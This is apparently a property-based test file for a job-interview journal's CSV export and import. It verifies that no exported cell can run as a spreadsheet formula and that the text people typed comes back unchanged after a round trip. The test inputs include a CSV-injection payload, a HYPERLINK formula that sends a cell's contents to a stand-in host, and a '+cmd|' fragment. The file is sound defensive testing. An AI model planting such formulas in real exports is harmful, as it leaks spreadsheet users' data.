/**
 * The spreadsheet door both ways (issue 30, causes 1 and 6): no cell of an export can run as a formula in a
 * spreadsheet, whatever it holds (line breaks included), and an import removes only the mark the export put
 * there, so every text a person typed comes back exactly as typed.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { newInterview, type InterviewRecord } from '../../../src/lib/interviews/interviews';
import { exportCsv, importCsv, proposeMapping, readCsv } from '../../../src/lib/journal/csv';
import { now, today } from '../../fixtures/journal';

/** The characters that start a formula in Excel, LibreOffice or Google Sheets (OWASP's CSV injection list). */
const FORMULA_START = ['=', '+', '-', '@', '\t', '\r'];

/** One interview with `company`, `role` and `notes` as given, and one event whose note is `note`. */
const withTexts = (company: string, role: string, notes: string, note = ''): InterviewRecord => ({
  ...newInterview('a', now),
  company,
  role,
  ...(notes ? { notes } : {}),
  events: [{ kind: 'follow-up-sent', date: '2026-03-02', ...(note ? { note } : {}) }],
  answers: { interviewDate: '2026-03-01' },
});

/** The export's cells as a spreadsheet reads them (papaparse, as any CSV reader would split them). */
const exportedCells = (records: InterviewRecord[]) => readCsv(exportCsv(records, today)).rows.flat();

/** Export then import: the first interview read back. */
function roundTrip(record: InterviewRecord) {
  const { headers, rows } = readCsv(exportCsv([record], today));
  const result = importCsv(rows, proposeMapping(headers), today, { headers });
  expect(result.errors).toEqual([]);
  return result.interviews[0];
}

describe('export: no cell can run as a formula', () => {
  it('marks a formula that holds a line break (the HYPERLINK of the attack run)', () => {
    const company = '=HYPERLINK("http://example.com/?"&A2,\n"click")';
    const cells = exportedCells([withTexts(company, '@SUM(1)\r\n', '-1+1\nx', '+cmd|\n')]);
    for (const cell of cells) expect(FORMULA_START).not.toContain(cell[0]);
    expect(cells).toContain(`'${company}`);
  });

  it('marks every cell that starts with =, +, -, @, a tab or a carriage return, whatever follows', () => {
    const dangerous = fc.tuple(fc.constantFrom(...FORMULA_START), fc.string({ unit: 'binary', maxLength: 40 })).map(([a, b]) => a + b);
    fc.assert(
      fc.property(dangerous, dangerous, dangerous, (company, role, notes) => {
        for (const cell of exportedCells([withTexts(company, role, notes.slice(0, 160), notes.slice(0, 120))]))
          expect(FORMULA_START).not.toContain(cell[0]);
      }),
      { numRuns: 500 },
    );
  });
});

describe('import: only the export’s mark is removed', () => {
  it("keeps an apostrophe the person typed: '=literal comes back as '=literal", () => {
    const back = roundTrip(withTexts("'=literal", "''+2", "'-note", "'@x"));
    expect(back).toMatchObject({ company: "'=literal", role: "''+2", notes: "'-note", events: [{ note: "'@x" }] });
  });

  it('gives back every text exactly: company, role, notes and an event’s note', () => {
    // Biased towards what breaks a CSV: leading apostrophes, formula characters, quotes, commas, line breaks.
    const piece = fc.oneof(
      fc.constantFrom("'", "''", ...FORMULA_START, '"', ',', ';', '\n', '\r', '\r\n', ' ', '\t', '\uFEFF', 'é', '😀'),
      fc.string({ unit: 'grapheme', maxLength: 6 }),
      fc.string({ unit: 'binary', maxLength: 6 }),
    );
    const textArb = (max: number) =>
      fc
        .array(piece, { maxLength: 8 })
        .map((parts) => parts.join('').slice(0, max))
        // A text of spaces alone is no text: the journal shows nothing for it either way.
        .filter((s) => s.trim() !== '');
    fc.assert(
      fc.property(textArb(200), textArb(200), textArb(160), textArb(120), (company, role, notes, note) => {
        const back = roundTrip(withTexts(company, role, notes, note));
        expect(back).toMatchObject({ company, role, notes, events: [{ kind: 'follow-up-sent', note }] });
      }),
      { numRuns: 1000 },
    );
  });
});
